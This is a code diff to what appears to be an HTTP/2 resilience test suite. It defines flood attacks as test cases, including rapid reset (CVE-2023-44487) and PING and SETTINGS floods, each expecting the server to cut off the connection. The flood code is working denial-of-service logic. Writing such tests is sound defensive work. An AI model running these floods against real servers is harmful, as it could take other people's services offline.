@@ -15,14 +15,14 @@ import { RawConnection } from "../raw-connection.ts";
 const connectPath = "/streamserver.v1.RelayService/Connect";
 const cancel = uint32(8);
 const none = new Uint8Array();
-/** Bytes in one write. Node itself cuts off who sends more than 1,000 PINGs before it has sent an answer. */
-const pieceBytes = 8_192;
+/** Bytes in one write. */
+const pieceBytes = 65_536;
 
 /** The bounds of the floods of frames. */
 const floodBounds: Bounds = { cutOffMs: 2_000, peakBytes: 10 * mebibyte, roundTripMs: 250, turnMs: 50 };
 
 async function openHttp2(target: Target, isReading = true): Promise<RawConnection> {
-  const raw = await RawConnection.open(target);
+  const raw = await RawConnection.open(target, "h2");
   if (isReading) raw.read();
   await raw.write(Buffer.concat([preface, frame("settings", 0, 0, none), frame("settings", 0, ackFlag, none)]));
   return raw;
@@ -35,6 +35,21 @@ async function repeat(target: Target, bytes: Buffer, amount: number, isReading =
   const each = Math.max(1, Math.floor(pieceBytes / bytes.byteLength));
   const piece = Buffer.concat(Array.from({ length: each }, () => bytes));
   return raw.flood(target, (number) => (number * each < amount ? piece : undefined));
+}
+
+/**
+ * Sends a frame that is answered, again and again, and reads the answers before it goes on. Node itself cuts off a client
+ * that sends 1,000 of them before.
+ */
+async function askAgain(target: Target, bytes: Buffer, answerBytes: number, amount: number) {
+  const raw = await openHttp2(target);
+  const each = 250;
+  const piece = Buffer.concat(Array.from({ length: each }, () => bytes));
+  return raw.flood(target, async (number) => {
+    // The first answers may come behind the head of the connection.
+    while (!raw.isClosed && raw.socket.bytesRead < number * each * answerBytes) await raw.heard();
+    return number * each < amount ? piece : undefined;
+  });
 }
 
 /** Opens streams in a row, with what `after` makes behind each head. */
@@ -56,15 +71,23 @@ async function openStreams(target: Target, amount: number, after: (stream: numbe
 
 const open = (stream: number) => frame("headers", stream, endHeaders, firstHead(connectPath));
 
+export const rapidReset: Attack = {
+  name: "rapid reset",
+  about: "opens calls on one connection of HTTP/2 and resets each at once (CVE-2023-44487)",
+  bare: "node:http2",
+  amount: { short: 20_000, long: 200_000 },
+  expected: "cut off",
+  bounds: { ...floodBounds, cutOffMs: 1_000, peakBytes: 32 * mebibyte, turnMs: 150 },
+  run: (target, amount) => openStreams(target, amount, (stream) => frame("rstStream", stream, 0, cancel)),
+};
+
 export const http2Floods: readonly Attack[] = [
+  rapidReset,
   {
-    name: "rapid reset",
-    about: "opens calls on one connection of HTTP/2 and resets each at once (CVE-2023-44487)",
-    bare: "node:http2",
-    amount: { short: 20_000, long: 200_000 },
-    expected: "cut off",
-    bounds: { ...floodBounds, cutOffMs: 1_000, peakBytes: 32 * mebibyte, turnMs: 150 },
-    run: (target, amount) => openStreams(target, amount, (stream) => frame("rstStream", stream, 0, cancel)),
+    ...rapidReset,
+    name: "short rapid reset",
+    about: "opens and resets calls on one connection, fewer than Node allows by itself",
+    amount: { short: 600, long: 600 },
   },
   {
     name: "made to reset",
@@ -105,10 +128,10 @@ export const http2Floods: readonly Attack[] = [
     name: "PING",
     about: "sends PINGs and reads the answers (CVE-2019-9512)",
     bare: "node:http2",
-    amount: { short: 1_000_000, long: 10_000_000 },
+    amount: { short: 100_000, long: 1_000_000 },
     expected: "cut off",
     bounds: floodBounds,
-    run: (target, amount) => repeat(target, frame("ping", 0, 0, Buffer.alloc(8)), amount),
+    run: (target, amount) => askAgain(target, frame("ping", 0, 0, Buffer.alloc(8)), 17, amount),
   },
   {
     name: "PING, unread",
@@ -123,10 +146,10 @@ export const http2Floods: readonly Attack[] = [
     name: "SETTINGS",
     about: "sends SETTINGS and reads the answers (CVE-2019-9515)",
     bare: "node:http2",
-    amount: { short: 1_000_000, long: 10_000_000 },
+    amount: { short: 100_000, long: 1_000_000 },
     expected: "cut off",
     bounds: floodBounds,
-    run: (target, amount) => repeat(target, frame("settings", 0, 0, none), amount),
+    run: (target, amount) => askAgain(target, frame("settings", 0, 0, none), 9, amount),
   },
   {
     name: "SETTINGS, unread",
